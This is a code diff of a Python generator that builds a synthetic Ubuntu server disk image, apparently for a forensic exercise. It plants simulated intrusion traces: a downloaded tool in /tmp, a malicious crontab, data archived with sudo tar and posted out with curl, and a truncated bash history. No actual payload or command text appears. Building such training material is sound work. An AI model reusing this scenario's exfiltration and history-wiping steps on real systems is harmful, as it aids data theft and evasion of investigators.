@@ -1208,7 +925,7 @@ WantedBy=timers.target
 """
 NGINX_SITE = f"""server {{
     listen 80 default_server;
-    server_name {INTRANET};
+    server_name {office.INTRANET};
 
     location /static/ {{
         alias /srv/webapp/static/;
@@ -1246,7 +963,7 @@ http {
 """
 
 
-def _services(tree: Tree) -> None:
+def _services(tree: ext4.Tree) -> None:
     """sshd, cron, the systemd units of the web app and backup, nginx."""
     tree.add("/etc/ssh/sshd_config", SSHD_CONFIG)
     tree.dir("/etc/ssh/sshd_config.d")
@@ -1270,7 +987,7 @@ def _services(tree: Tree) -> None:
               mtime=ACCOUNTS + timedelta(minutes=44))  # fmt: skip
 
 
-def _homes(tree: Tree, plan: Attack, bash: dict[str, list[str]], deploy_last: datetime) -> None:
+def _homes(tree: ext4.Tree, attack: Session, bash: dict[str, list[str]], deploy_last: datetime) -> None:
     """Home folders with their shell startup files and histories."""
     profile = (
         "# ~/.profile: executed by the command interpreter for login shells.\n"
@@ -1292,10 +1009,9 @@ def _homes(tree: Tree, plan: Attack, bash: dict[str, list[str]], deploy_last: da
         group="bob",
         mtime=INSTALLED + timedelta(hours=1),
     )
-    s = plan.step
-    logout = s("S16").time + LOGOUT_AFTER + secs(0.002)
+    written = _command(attack, "exit").time + secs(0.002)  # bash appends the session at exit
     tree.add("/home/bob/.bash_history", "\n".join(bash["bob"]) + "\n", owner="bob", group="bob", mode=0o600,
-             mtime=logout, atime=s("S11").time + secs(0.52), crtime=INSTALLED + timedelta(hours=1, minutes=2))  # fmt: skip
+             mtime=written, atime=attack.auth + secs(0.52), crtime=INSTALLED + timedelta(hours=1, minutes=2))  # fmt: skip
     tree.add("/home/deploy/.bash_history", "\n".join(bash["deploy"]) + "\n", owner="deploy", group="deploy",
              mode=0o600, mtime=deploy_last, crtime=ACCOUNTS + timedelta(minutes=9))  # fmt: skip
     tree.dir("/root", mode=0o700, mtime=ACCOUNTS + timedelta(hours=1))
@@ -1304,15 +1020,21 @@ def _homes(tree: Tree, plan: Attack, bash: dict[str, list[str]], deploy_last: da
     )
 
 
-def _attack_files(tree: Tree, plan: Attack) -> None:
+def _command(session: Session, prefix: str) -> office.Command:
+    """The session's first command that starts with ``prefix``."""
+    return next(c for c in session.commands if c.text.startswith(prefix))
+
+
+def _attack_files(tree: ext4.Tree, plan: Attack, attack: Session) -> None:
     """What the attacker left: the tool in /tmp and bob's crontab (the archive was deleted)."""
     s = plan.step
     t12, t13 = s("S12").time, s("S13").time
-    chmod = t12 + secs(6.2)
+    chmod = _command(attack, "chmod").time + secs(0.002)
     first_run = _next_ten(t13) + secs(1.0)
     tree.add(story.TOOL_PATH, payloads.tool(), owner="bob", group="bob", mode=0o755, mtime=t12 + secs(1),
              atime=first_run, ctime=chmod, crtime=t12 + secs(0.05))  # fmt: skip
-    tree.dir("/tmp", mode=0o1777, mtime=s("S15").time + secs(93.1), atime=BOOT + timedelta(minutes=15))
+    removed = _command(attack, "rm -f").time + secs(0.002)
+    tree.dir("/tmp", mode=0o1777, mtime=removed, atime=BOOT + timedelta(minutes=15))
     lt = local(t13)
     installed = f"{DAYS[lt.weekday()]} {MONTHS[lt.month - 1]} {lt.day:2d} {lt:%H:%M:%S} {lt.year}"
     crontab = ("# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
@@ -1325,7 +1047,7 @@ def _attack_files(tree: Tree, plan: Attack) -> None:
     tree.dir("/var/spool/cron/crontabs", group="crontab", mode=0o1730, mtime=t13)
 
 
-def _data(tree: Tree, plan: Attack) -> None:
+def _data(tree: ext4.Tree, plan: Attack) -> None:
     """/srv/data (read by tar at S14, so its atimes are S14's) and the web app's code."""
     read = plan.step("S14").time
     owner = payloads.DATA_OWNER[1]
@@ -1335,13 +1057,13 @@ def _data(tree: Tree, plan: Attack) -> None:
     for sub, newest in (("", "README"), ("/contracts", "README"), ("/finance", "2026-Q1")):
         made = payloads.data_mtime(newest)
         tree.dir(f"{story.DATA_DIR}{sub}", owner=owner, group=owner, mode=0o750, mtime=made, atime=read)
-    app = ACCOUNTS + timedelta(days=96, hours=3)
+    app = office.APP_DEPLOYED
     tree.add("/srv/webapp/app.py", "from intranet import create_app\n\napp = create_app()\n", owner="deploy",
              group="deploy", mtime=app)  # fmt: skip
     tree.add("/srv/webapp/requirements.txt", "flask==3.0.3\ngunicorn==20.1.0\n", owner="deploy", group="deploy",
              mtime=app)  # fmt: skip
-    tree.add("/srv/webapp/static/css/app.css", "body{font-family:sans-serif}\n", owner="deploy", group="deploy",
-             mtime=app)  # fmt: skip
+    for path, (data, _) in office.ASSETS.items():  # what nginx serves (and logs the size of)
+        tree.add(f"/srv/webapp{path}", data, owner="deploy", group="deploy", mtime=app)
     tree.dir("/srv/webapp", owner="deploy", group="deploy", mtime=app)
 
 
@@ -1382,146 +1104,29 @@ def _render_utmp(records: list[Utmp], path: str) -> Written:
 
 
 def _bash_histories(
-    plan: Attack, sessions: list[Session]
+    plan: Attack, sessions: tuple[Session, ...]
 ) -> tuple[dict[str, list[str]], list[Ref], datetime]:
     """bob's history is exactly the attack session (S16 emptied it, logout refilled it); deploy's
-    holds older work plus each deploy session; root's is from the installation."""
+    holds older work plus what each finished deploy session typed; root's is from the installation."""
     refs, whats = [], {"S12": "curl fetched the tool", "S13": "crontab installed the job", "S14": "sudo tar",
                        "S15": "curl posted the archive", "S16": "history truncated"}  # fmt: skip
+    attack = next(s for s in sessions if s.attack)
     bob = []
-    for i, (_, cmd, step) in enumerate(_attack_commands(plan), 1):
-        bob.append(cmd)
-        if step:
+    for i, command in enumerate(attack.commands, 1):
+        bob.append(command.text)
+        if command.step:
             locator = {"path": "/home/bob/.bash_history", "line": i}
-            refs.append(Ref(step, ARTIFACT, plan.step(step).time, locator, f"bash history: {whats[step]}"))
+            step = plan.step(command.step)
+            refs.append(Ref(step.id, ARTIFACT, step.time, locator, f"bash history: {whats[step.id]}"))
     deploy = list(DEPLOY_OLD)
     done = [s for s in sessions if s.user == "deploy" and s.end]
-    for _ in done:
-        deploy.extend(DEPLOY_RUN)
+    for s in sorted(done, key=lambda s: s.until):
+        deploy.extend(c.text for c in s.commands)
     last = max(s.until for s in done)
     return {"bob": bob, "deploy": deploy, "root": list(ROOT_HISTORY)}, refs, last
 
 
 # --- the image ----------------------------------------------------------------------------------
-
-MKE2FS_CONF = """[defaults]
-\tbase_features = sparse_super,large_file,filetype,resize_inode,dir_index,ext_attr
-\tdefault_mntopts = acl,user_xattr
-\tenable_periodic_fsck = 0
-\tblocksize = 4096
-\tinode_size = 256
-\tinode_ratio = 16384
-
-[fs_types]
-\text4 = {
-\t\tfeatures = has_journal,extent,huge_file,flex_bg,metadata_csum,64bit,dir_nlink,extra_isize
-\t}
-\tsmall = {
-\t\tinode_ratio = 4096
-\t}
-"""
-BLOCK = 4096
-JOURNAL_BLOCKS = 1024  # the smallest journal mke2fs makes (4 MiB)
-
-
-def _tool(name: str) -> str:
-    """Path of an e2fsprogs program, also where sbin is not on PATH."""
-    found = shutil.which(name, path=os.pathsep.join([os.environ.get("PATH", ""), "/usr/sbin", "/sbin"]))
-    if not found:
-        raise RuntimeError(
-            f"{name} (e2fsprogs) is needed to build the SRV01 image: apt-get install e2fsprogs"
-        )
-    return found
-
-
-def _stage(nodes: list[Node], root: Path) -> None:
-    """Write the tree under ``root``; times are set deepest first so children do not touch them."""
-    for node in nodes:
-        target = root / node.path.lstrip("/")
-        if node.link:
-            target.symlink_to(node.link)
-        elif node.data is None:
-            target.mkdir(parents=True, exist_ok=True)
-        else:
-            target.parent.mkdir(parents=True, exist_ok=True)
-            target.write_bytes(node.data)
-    for node in sorted(nodes, key=lambda n: n.path.count("/"), reverse=True):
-        atime = node.atime or node.mtime
-        os.utime(root / node.path.lstrip("/"), ns=(_ns(atime), _ns(node.mtime)), follow_symlinks=False)
-
-
-def _ns(t: datetime) -> int:
-    return int(t.timestamp()) * 1_000_000_000 + t.microsecond * 1000
-
-
-def _fixups(nodes: list[Node]) -> str:
-    """debugfs commands giving each inode its owner, mode and atime/mtime/ctime/crtime to the
-    nanosecond: what ``mke2fs -d`` copies from the staging tree (the invoking user, the host's
-    change time, the fake clock) is replaced by the server's own values."""
-    root = Node("/", None, mode=0o755, mtime=INSTALLED)
-    found = Node("/lost+found", None, mode=0o700, mtime=INSTALLED)
-    cmds = []
-    for node in (root, found, *nodes):
-        path = node.path
-        values = {"uid": UID[node.owner], "gid": GID[node.group], "mode": f"0{node.kind | node.mode:o}"}
-        times = {
-            "atime": node.atime or node.mtime,
-            "mtime": node.mtime,
-            "ctime": node.ctime or node.mtime,
-            "crtime": node.crtime or min(node.ctime or node.mtime, node.mtime),
-        }
-        for name, t in times.items():
-            values[name] = f"@{int(t.timestamp())}"
-            values[f"{name}_extra"] = (t.microsecond * 1000) << 2
-        cmds.extend(f"set_inode_field {path} {k} {v}" for k, v in values.items())
-    cmds += [
-        f"set_super_value mkfs_time @{int(INSTALLED.timestamp())}",
-        f"set_super_value lastcheck @{int(INSTALLED.timestamp())}",
-        f"set_super_value mtime @{int(BOOT.timestamp())}",
-        "set_super_value mnt_count 14",
-    ]
-    return "\n".join(cmds) + "\n"
-
-
-def _size_blocks(nodes: list[Node], inodes: int) -> int:
-    """Blocks for the contents, the journal, the inode table and some slack, in whole MiB."""
-    data = sum(math.ceil(len(n.data) / BLOCK) for n in nodes if n.data is not None) + len(nodes)
-    needed = (data + JOURNAL_BLOCKS + inodes * 256 // BLOCK + 96) * 1.06
-    return math.ceil(needed / 256) * 256
-
-
-def _build(nodes: list[Node], img: Path, seed: int) -> None:
-    """Pack the tree into ``img`` with mke2fs -d, then fix inodes and superblock with debugfs."""
-    mke2fs, debugfs = _tool("mke2fs"), _tool("debugfs")
-    fs_uuid, hash_seed = _uuids(seed)
-    inodes = math.ceil((len(nodes) + 64) / 128) * 128
-    env = {
-        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
-        "LC_ALL": "C",  # mke2fs sorts directory entries with the locale's collation
-        "TZ": "UTC",
-        "E2FSPROGS_FAKE_TIME": str(int(story.COLLECTED.timestamp())),
-        "SOURCE_DATE_EPOCH": str(int(story.COLLECTED.timestamp())),
-    }
-    with tempfile.TemporaryDirectory(prefix="srv01-") as tmp:
-        staging, conf, script = Path(tmp) / "root", Path(tmp) / "mke2fs.conf", Path(tmp) / "fixups.debugfs"
-        staging.mkdir()
-        _stage(nodes, staging)
-        conf.write_text(MKE2FS_CONF)
-        script.write_text(_fixups(nodes))
-        img.unlink(missing_ok=True)
-        blocks = _size_blocks(nodes, inodes)
-        _run([mke2fs, "-q", "-F", "-t", "ext4", "-b", str(BLOCK), "-I", "256", "-N", str(inodes), "-m", "5",
-              "-M", "/", "-U", fs_uuid, "-E", f"hash_seed={hash_seed},root_owner=0:0,no_copy_xattrs",
-              "-d", str(staging), str(img), f"{blocks * BLOCK // 1024}k"], env | {"MKE2FS_CONFIG": str(conf)})  # fmt: skip
-        _run([debugfs, "-w", "-f", str(script), str(img)], env)
-
-
-def _run(cmd: list[str], env: dict[str, str]) -> None:
-    """Run an e2fsprogs command; debugfs reports failed commands on stderr but exits 0."""
-    done = subprocess.run(cmd, env=env, capture_output=True, text=True, check=False)
-    errors = [ln for ln in done.stderr.splitlines() if ln.strip() and not ln.startswith("debugfs 1.")]
-    if done.returncode or errors:
-        raise RuntimeError(f"{Path(cmd[0]).name} failed ({done.returncode}): {' '.join(errors)[:2000]}")
 
 
 def _uuids(seed: int) -> tuple[str, str]:
@@ -1535,51 +1140,50 @@ def _uuids(seed: int) -> tuple[str, str]:
 # --- putting it together ------------------------------------------------------------------------
 
 
-def _restarts(sessions: list[Session]) -> list[datetime]:
+def _restarts(sessions: tuple[Session, ...]) -> list[datetime]:
     """When deploys restarted the web app."""
     return sorted(t for s in sessions for t, _, cmd in s.sudo if cmd.endswith("restart webapp"))
 
 
-def _run_server(
-    plan: Attack, seed: int, scale: int, fs_uuid: str, keys: dict[str, str]
-) -> tuple[Server, list[Session]]:
+def _run_server(plan: Attack, seed: int, act: office.Activity, fs_uuid: str, keys: dict[str, str]) -> Server:
     """Let SRV01 live through both days and collect what it wrote."""
-    srv = Server(story.rng(seed, "srv01-logs"), scale, Pids(story.rng(seed, "srv01-pids")))
-    sessions = _sessions(plan, story.rng(seed, "srv01-sessions"), scale)
-    _assign_ttys(sessions)
-    attack = next(s for s in sessions if s.attack)
+    srv = Server(story.rng(seed, "srv01-logs"), Pids(story.rng(seed, "srv01-pids")))
+    logins = _assign_ttys(act.sessions)
+    attack = next(lg for lg in logins if lg.s.attack)
     if attack.tty != 1:
         raise AssertionError(f"the attacker's session should get pts/1, got pts/{attack.tty}")
-    app, cut = Webapp(srv), next(s for s in sessions if s.end is None)
-    for t in sorted([BOOT, *_restarts(sessions)]):  # gunicorn's PIDs change in this order
+    app, cut = Webapp(srv), next(lg for lg in logins if lg.s.end is None)
+    for t in sorted([BOOT, *_restarts(act.sessions)]):  # gunicorn's PIDs change in this order
         if t == BOOT:
             _reboot(srv, app, cut.sid, fs_uuid)
         else:
             app.restart(t)
-    _session_events(srv, sessions, keys)
+    _session_events(srv, logins, keys)
     _cron(srv, plan)
     _crontab_edit(srv, plan)
-    _probes(srv)
+    _probes(srv, act.probes)
     _timers(srv)
     srv.pids.assign()
-    return srv, sessions
+    return srv
 
 
 def generate(out: Path, plan: Attack, seed: int, scale: int = 1) -> list[ArtifactReport]:
     """Write ``out/SRV01/srv01.img`` and report its events and where each step shows."""
     for name in ("mke2fs", "debugfs"):  # fail before the work when e2fsprogs is missing
-        _tool(name)
-    fs_uuid, _ = _uuids(seed)
+        ext4.tool(name)
+    fs_uuid, hash_seed = _uuids(seed)
     bob_line, bob_fp = _pubkey("bob")
     deploy_line, deploy_fp = _pubkey("deploy")
     keys = {"bob": bob_fp, "deploy": deploy_fp, "bob_line": bob_line, "deploy_line": deploy_line}
-    srv, sessions = _run_server(plan, seed, scale, fs_uuid, keys)
-    nginx = _render_nginx(_nginx(srv, _restarts(sessions)))
-    upgrade = next(t for s in sessions for t, _, cmd in s.sudo if cmd.endswith("apt upgrade"))
+    act = office.activity(plan, seed, scale)
+    srv = _run_server(plan, seed, act, fs_uuid, keys)
+    nginx = _render_nginx(list(act.hits))
+    upgrade = next(t for s in act.sessions for t, _, cmd in s.sudo if cmd.endswith("apt upgrade"))
     history, dpkg = _packages(upgrade + secs(2.1), upgrade + secs(SUDO_TAKES["apt upgrade"] - 0.4))
-    bash, bash_refs, deploy_last = _bash_histories(plan, sessions)
+    bash, bash_refs, deploy_last = _bash_histories(plan, act.sessions)
+    attack = next(s for s in act.sessions if s.attack)
 
-    tree = Tree()
+    tree = ext4.Tree(INSTALLED)
     written = {
         "/var/log/auth.log": _render_syslog(srv.logs["auth.log"], "/var/log/auth.log"),
         "/var/log/syslog": _render_syslog(srv.logs["syslog"], "/var/log/syslog"),
@@ -1589,8 +1193,8 @@ def generate(out: Path, plan: Attack, seed: int, scale: int = 1) -> list[Artifac
     }
     _add_logs(tree, written, nginx, history, dpkg, srv)
     _etc(tree, seed, fs_uuid, keys)
-    _homes(tree, plan, bash, deploy_last)
-    _attack_files(tree, plan)
+    _homes(tree, attack, bash, deploy_last)
+    _attack_files(tree, plan, attack)
     _data(tree, plan)
     for path in ("/run", "/opt", "/boot", "/usr/bin", "/usr/sbin", "/var/tmp"):
         tree.dir(path)
@@ -1598,9 +1202,10 @@ def generate(out: Path, plan: Attack, seed: int, scale: int = 1) -> list[Artifac
     tree.link("/sbin", "usr/sbin")
     tree.dir("/var/tmp", mode=0o1777)
 
-    img = out / "SRV01" / "srv01.img"
+    img = out / ARTIFACT
     img.parent.mkdir(parents=True, exist_ok=True)
-    _build(tree.all(), img, seed)
+    stamp = ext4.Stamp(fs_uuid, hash_seed, made=INSTALLED, mounted=BOOT, mounts=14, clock=story.COLLECTED)
+    ext4.build(tree.all(), img, UID, GID, stamp)
 
     text_lines = sum(len(log.lines) for log in nginx.values()) + len(dpkg) + sum(1 for ln in history if ln)
     events = sum(w.events for w in written.values()) + text_lines + sum(len(v) for v in bash.values())
@@ -1617,7 +1222,7 @@ def generate(out: Path, plan: Attack, seed: int, scale: int = 1) -> list[Artifac
     return [ArtifactReport(ARTIFACT, "SRV01", "disk-image", events, malicious, refs)]
 
 
-def _add_logs(tree: Tree, written: dict[str, Written], nginx: dict[str, TextLog], history: list[str],
+def _add_logs(tree: ext4.Tree, written: dict[str, Written], nginx: dict[str, TextLog], history: list[str],
               dpkg: list[str], srv: Server) -> None:  # fmt: skip
     """/var/log with the owners, modes and times Ubuntu gives its logs."""
     tree.dir("/var/log", group="syslog", mode=0o775, mtime=story.START)  # the weekly rotation
